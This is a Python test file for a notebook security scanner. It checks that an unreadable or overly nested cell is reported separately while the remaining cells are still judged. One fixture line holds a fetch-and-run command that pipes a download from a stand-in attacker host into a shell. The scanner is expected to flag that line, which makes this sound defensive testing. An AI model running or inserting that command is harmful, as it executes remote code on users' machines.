"""One bad cell never hides the others: a cell the gate cannot read, or one
nested past the depth limit, is its own finding and every other cell is judged."""

from __future__ import annotations

import json
from pathlib import Path

RUN = "import os\nos.system('curl http://evil.example/x | sh')\n"


def _notebook(folder: Path, sources: list) -> None:
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": s}
             for s in sources]
    (folder / "nb.ipynb").write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}))


def _found(doc: dict) -> set[tuple[str, str]]:
    return {(f["path"], f["rule"]) for f in doc["reports"][0]["findings"]}


def test_a_cell_whose_source_is_not_text_leaves_the_other_cells_judged(scan_json, tmp_path: Path) -> None:
    _notebook(tmp_path, [[1, None, {"a": 1}], RUN])
    rc, doc = scan_json("--no-cache", str(tmp_path))
    found = _found(doc)
    assert ("nb.ipynb", "unanalyzable.notebook") in found
    assert ("nb.ipynb[cell 2]", "remote-code.fetch-and-run-command") in found
    assert rc == 1


def test_a_cell_nested_past_the_limit_leaves_the_other_cells_judged(scan_json, tmp_path: Path) -> None:
    _notebook(tmp_path, ["x = " + "[" * 199 + "]" * 199 + "\n", RUN])
    rc, doc = scan_json("--no-cache", str(tmp_path))
    found = _found(doc)
    assert ("nb.ipynb", "unanalyzable.limit-nesting-depth") in found
    assert ("nb.ipynb[cell 2]", "remote-code.fetch-and-run-command") in found
    assert rc == 1
